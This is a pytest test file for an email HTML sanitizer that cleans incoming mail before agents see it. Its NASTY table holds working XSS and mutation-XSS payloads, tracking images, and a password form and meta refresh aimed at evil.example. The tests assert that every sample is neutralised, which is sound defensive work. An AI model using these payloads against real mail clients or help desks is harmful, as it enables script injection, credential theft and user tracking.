"""HTML of strangers, as it is shown to agents: nothing in it runs, loads, submits, or is not what it seems.

Every sample is of a class of attack that was published against mail programs and help desks. What comes out is read by
another parser than the one that cleaned it.
"""

from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.ingestion.domain.mail import parse_mail
from services.ingestion.domain.mail_html import ShownHtml, shown_html, with_images

CORPUS = Path(__file__).resolve().parents[1] / "data" / "mail"
ALLOWED = {"dir", "lang", "title", "align", "href", "src", "alt", "width", "height", "start", "colspan", "rowspan"}
ADDED = {"rel", "target"}
NOT_SHOWN = {
    *("script", "style", "iframe", "frame", "object", "embed", "applet", "form", "input", "button", "textarea", "meta"),
    *("link", "base", "svg", "math", "template", "noscript", "video", "audio", "source", "portal", "select", "marquee"),
}

NASTY = {
    "script": "<script>alert(1)</script>",
    "script in another case and broken": "<ScRiPt/x src=//evil.example/x.js></sCrIpT >",
    "event handler": "<img src=x onerror=alert(1)><p onclick='x()'>a</p><body onload=alert(1)>",
    "handler without a space": "<img/src=x/onerror=alert(1)>",
    "javascript link": "<a href='javascript:alert(1)'>a</a><a href='JaVaScRiPt:alert(1)'>b</a>",
    "javascript link with a tab": "<a href='java\tscript:alert(1)'>a</a><a href=' \x01javascript:alert(1)'>b</a>",
    "javascript link in entities": "<a href='&#106;avascript&colon;alert(1)'>a</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "vbscript link": "<a href='vbscript:msgbox(1)'>a</a>",
    "link into the desk": "<a href='/api/auth/sign-out'>a</a><a href='//evil.example/'>b</a><a href='?x'>c</a>",
    "nested and split tags": "<scr<script>ipt>alert(1)</scr</script>ipt><<b>img src=x onerror=alert(1)>",
    "unclosed tag": "<img src='x' onerror='alert(1)' <p>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "mutation by math and style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "mutation by svg and style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation by noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation by a form in a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>--><!-- x --!><img src=y onerror=alert(2)>",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "style with an address": "<p style='background:url(https://evil.example/t)'>a</p><style>@import '//evil'</style>",
    "style that covers the desk": "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>Sign in again</div>",
    "form": "<form action='https://evil.example'><input name=password><button formaction='javascript:x'>ok</button>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example/'>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "link to a sheet": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "NUL": "<scr\x00ipt>alert(1)</scr\x00ipt><a hr\x00ef='java\x00script:alert(1)'>a</a>",
    "names that scripts find": "<p id=body name=cookie class=btn>a</p><img name=getElementById>",
    "an image that is watched": "<img srcset='https://evil.example/1 1x' src='https://evil.example/2'>",
    "an image with a script": "<img src='javascript:alert(1)'><img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "an image of the desk": "<img src='/api/auth/sign-out'><img src='cid:nobody'><img src='cid:'>",
    "bidi override": "<p dir=rtl>\u202egnp.exe</p>",
    "deep": "<div>" * 5_000 + "x",
    "unfinished": "<a href='https://a.example",
    "quoted address": '<p>src="cid:0"</p>',
}


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def shown(html: str, content_ids: tuple[str, ...] = ("logo@a",), *, remote_images: bool = False) -> ShownHtml:
    result = shown_html([(True, html)], content_ids, remote_images=remote_images)
    assert result is not None
    return result


def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.tags


def require_harmless(html: str, *, remote_images: bool = False) -> None:
    for tag, attributes in tags_of(html):
        assert tag not in NOT_SHOWN, tag
        assert attributes.keys() <= ALLOWED | ADDED, attributes
        link, source = attributes.get("href"), attributes.get("src")
        assert link is None or link.lower().startswith(("http://", "https://", "mailto:", "tel:")), link
        remote = ("https://",) if remote_images else ()
        assert source is None or source.startswith(("cid:", "/api/attachments/", *remote)), source
        assert tag != "a" or {"noopener", "noreferrer"} <= set((attributes["rel"] or "").split()), attributes


@pytest.mark.parametrize("remote_images", [False, True])
@pytest.mark.parametrize("name", NASTY)
def test_what_strangers_send_does_nothing(name: str, remote_images: bool) -> None:
    cleaned = shown(NASTY[name], remote_images=remote_images)
    require_harmless(cleaned.html, remote_images=remote_images)
    again = shown(cleaned.html, remote_images=remote_images).html
    require_harmless(again, remote_images=remote_images)
    require_harmless(with_images(cleaned.html, ["/api/attachments/7"]), remote_images=remote_images)


@given(
    pieces=st.lists(st.sampled_from(sorted(NASTY.values(), key=len)[:-1]), min_size=2, max_size=4), cut=st.integers(1)
)
def test_pieces_of_it_do_nothing_together(pieces: list[str], cut: int) -> None:
    whole = "".join(pieces)
    require_harmless(shown(whole[cut % len(whole) :]).html)


@given(text=st.text())
def test_text_stays_text(text: str) -> None:
    assert shown_html([(False, text)], ()) is None
    both = shown_html([(False, text), (True, "<b>x</b>")], ())
    assert both is not None
    assert [tag for tag, _ in tags_of(both.html)] == ["pre", "b"]


def test_what_formats_a_text_stays() -> None:
    html = '<h1>Hi</h1><p>a <b>b</b> <em>c</em></p><ul><li>d</li></ul><table><tr><td colspan="2">e</td></tr></table>'
    assert [tag for tag, _ in tags_of(shown(html).html)] == [
        *("h1", "p", "b", "em", "ul", "li", "table", "tbody", "tr", "td"),
    ]
    link = tags_of(shown("<a href='https://a.example/?q=1&amp;r=2' onclick=x()>a</a>").html)
    assert link == [
        ("a", {"href": "https://a.example/?q=1&r=2", "rel": "noopener noreferrer nofollow", "target": "_blank"})
    ]


def test_images_of_the_mail_are_shown_and_those_elsewhere_stay_away() -> None:
    html = "<img src='cid:logo%40a' alt=Logo><img src='https://t.example/1.gif'><img src='//t.example/2'><img src='http://x'>"
    cleaned = shown(html)
    assert cleaned.images_left_out == 3
    assert [attributes.get("src") for _, attributes in tags_of(cleaned.html)] == ["cid:0", None, None, None]
    page = with_images(cleaned.html, ["/api/attachments/7"])
    assert tags_of(page)[0][1]["src"] == "/api/attachments/7"
    assert tags_of(with_images(cleaned.html, []))[0][1]["src"] == ""
    asked = shown(html, remote_images=True)
    assert [attributes.get("src") for _, attributes in tags_of(asked.html)][1:] == [
        "https://t.example/1.gif",
        None,
        None,
    ]
    assert asked.images_left_out == 2


def test_mail_as_it_is_in_the_wild_does_nothing() -> None:
    mails = [parse_mail(path.read_bytes()) for path in sorted(CORPUS.glob("*.eml"))]
    cleaned = [shown_html(mail.parts, [file.content_id for file in mail.attachments]) for mail in mails]
    assert any(each and tags_of(each.html) for each in cleaned), "the corpus has HTML"
    for each in cleaned:
        require_harmless(each.html if each else "")


def test_the_version_with_html_is_shown_and_the_plain_one_is_read() -> None:
    raw = (
        b"From: a@b.example\r\nContent-Type: multipart/related; boundary=R\r\n\r\n--R\r\n"
        b"Content-Type: multipart/alternative; boundary=A\r\n\r\n"
        b"--A\r\nContent-Type: text/plain\r\n\r\nplain\r\n"
        b"--A\r\nContent-Type: text/html\r\n\r\n<b>rich</b><img src='cid:i1'>\r\n--A--\r\n"
        b"--R\r\nContent-Type: image/png\r\nContent-ID: <i1>\r\n\r\nPNG\r\n--R--\r\n"
    )
    mail = parse_mail(raw)
    assert mail.text == "plain"
    cleaned = shown_html(mail.parts, [file.content_id for file in mail.attachments])
    assert cleaned is not None
    assert [(tag, attributes.get("src")) for tag, attributes in tags_of(cleaned.html)] == [
        ("b", None),
        ("img", "cid:0"),
    ]
    assert shown_html(parse_mail(b"From: a@b.example\r\n\r\nplain").parts, []) is None
